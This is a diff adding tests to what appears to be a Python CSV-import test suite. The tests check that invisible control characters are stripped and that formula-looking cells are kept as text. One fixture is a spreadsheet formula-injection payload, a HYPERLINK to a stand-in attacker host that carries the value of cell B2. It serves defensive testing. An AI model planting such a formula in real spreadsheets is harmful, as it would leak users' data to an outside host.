@@ -122,12 +122,32 @@ def test_formula_looking_cells_are_stored_as_text(tree, caseworker, catalog_item
     assert CreditRecord.objects.get(decision_no=rows2[0][3]).summary == "=1+1"
 
 
+def test_invisible_control_characters_are_dropped(tree, caseworker, catalog_item):
+    # Pasted from another system: a control character before "=" (which an export
+    # to XLSX would otherwise turn into a live formula), one inside a name and
+    # one inside the ID number. None of them can be seen or typed.
+    rows = rows_for(2)
+    number = rows[1][1]
+    rows[0][6] = '\x01=HYPERLINK("http://evil.example/?"&B2,"x")'
+    rows[1][0] = rows[1][0][:1] + "\x7f" + rows[1][0][1:]
+    rows[1][1] = "\x02" + number
+    rows[1][6] = "第一行\x0b第二行\t第三段"
+    result = run(csv_bytes(CHINESE_HEADER, rows), tree, caseworker)
+    assert result.ok, result.errors
+    first, second = CreditRecord.objects.order_by("decision_no")
+    assert first.summary == '=HYPERLINK("http://evil.example/?"&B2,"x")'
+    assert "\x7f" not in second.person.name and len(second.person.name) == len(rows[1][0]) - 1
+    assert second.person.id_number == number
+    assert second.summary == "第一行第二行\t第三段"  # tab is kept: it is visible as space
+
+
 def test_clean_cell():
     assert clean_cell(" １２３\u3000") == "123"
     assert clean_cell("a\r\nb") == "a\nb"
     assert clean_cell(datetime.datetime(2026, 3, 2)) == "2026-03-02"
     assert clean_cell(12.0) == "12"
     assert clean_cell(None) == ""
+    assert clean_cell("\x00a\x1fb\x7f") == "ab"
 
 
 # --- Bad input: every problem, nothing written -------------------------------------------------
